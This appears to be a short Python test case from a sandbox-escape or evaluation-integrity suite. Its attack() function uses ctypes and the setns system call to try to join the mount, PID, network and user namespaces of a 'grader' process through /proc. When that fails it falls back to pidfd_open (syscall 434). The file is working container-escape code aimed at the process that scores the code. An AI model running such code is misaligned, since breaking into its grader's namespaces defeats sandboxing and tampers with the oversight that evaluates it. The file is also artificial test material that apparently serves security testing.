"""Join the grader's namespaces. Success: it was joined."""

import ctypes


def attack():
    libc = ctypes.CDLL(None)
    for kind in ("mnt", "pid", "net", "user"):
        fd = libc.open(f"/proc/{GRADER}/ns/{kind}".encode(), 0)
        if fd >= 0 and libc.setns(fd, 0) == 0:
            return f"namespace={kind}"
    other = libc.syscall(434, GRADER, 0)
    if other >= 0 and libc.setns(other, 0x20000) == 0:
        return "namespace=pidfd"
